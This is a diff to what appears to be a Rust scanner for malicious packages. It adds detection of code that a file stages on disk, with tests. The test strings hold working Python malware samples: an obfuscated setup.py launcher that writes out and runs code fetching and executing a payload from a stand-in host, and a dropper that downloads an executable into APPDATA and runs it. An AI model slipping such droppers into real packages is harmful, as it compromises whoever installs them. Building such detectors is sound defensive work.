@@ -810,6 +810,19 @@ fn v2_findings(
             out.push(f);
         }
     }
+    // Code it writes to a file from a literal: what that code would do,
+    // at the line that writes it.
+    for (line, code) in &analysis.staged {
+        for mut f in analyze_at(rules, path, code.as_bytes(), role, depth + 1) {
+            f.line = Some(*line);
+            f.message = format!("{} (in code it writes to a file)", f.message);
+            f.evidence.push((
+                "staged".into(),
+                format!("code written to a file at line {line}"),
+            ));
+            out.push(f);
+        }
+    }
     for flow in analysis.flows {
         // A flow the lexical pass saw as an exec near a fetch is reported
         // once; a download and a run it saw apart are reported as the flow.
@@ -1696,6 +1709,41 @@ mod tests {
         assert!(
             rules_of("p/pkg/util.py", appending, &[])
                 .contains(&(RuleId::Persistence, Severity::High))
+        );
+    }
+
+    #[test]
+    fn a_launcher_staged_on_disk_is_analysed_as_code() {
+        let staged = "from tempfile import NamedTemporaryFile as _f\nfrom sys import executable as _e\nfrom os import system as _s\n_t = _f(delete=False)\n_t.write(b\"\"\"from urllib.request import urlopen as _u;exec(_u('https://x.example/raw').read())\"\"\")\n_t.close()\n_s(f\"start {_e} {_t.name}\")\n";
+        assert!(
+            rules_of("p/setup.py", staged, &[])
+                .contains(&(RuleId::DownloadExec, Severity::Critical)),
+            "{:?}",
+            rules_of("p/setup.py", staged, &[])
+        );
+        // A template written by a generator is only what its code does.
+        let template = "with open('conf.py', 'w') as f:\n    f.write('import os\\nDEBUG = os.environ.get(\"DEBUG\")\\n')\n";
+        assert!(rules_of("p/pkg/gen.py", template, &[]).is_empty());
+    }
+
+    #[test]
+    fn a_dropper_split_into_functions_is_one_flow() {
+        let dropper = "import os, requests, subprocess\ndef fetch(url, dest):\n    r = requests.get(url)\n    with open(dest, 'wb') as f:\n        f.write(r.content)\ndef start(exe):\n    subprocess.run([exe])\ndef go():\n    target = os.path.join(os.getenv('APPDATA'), 'x.exe')\n    fetch(URL, target)\n    start(target)\n";
+        let init = format!("{dropper}go()\n");
+        assert!(
+            rules_of("p/pkg/__init__.py", &init, &[])
+                .contains(&(RuleId::DownloadExec, Severity::Critical)),
+            "{:?}",
+            rules_of("p/pkg/__init__.py", &init, &[])
+        );
+        // Fetching to one path and running another is not a flow.
+        let apart = "import requests, subprocess\ndef fetch(url, dest):\n    open(dest, 'wb').write(requests.get(url).content)\ndef start(exe):\n    subprocess.run([exe])\nfetch(URL, 'data.json')\nstart('git')\n";
+        assert!(
+            rules_of("p/pkg/__init__.py", apart, &[])
+                .iter()
+                .all(|(r, s)| *r != RuleId::DownloadExec || *s <= Severity::Low),
+            "{:?}",
+            rules_of("p/pkg/__init__.py", apart, &[])
         );
     }
 }
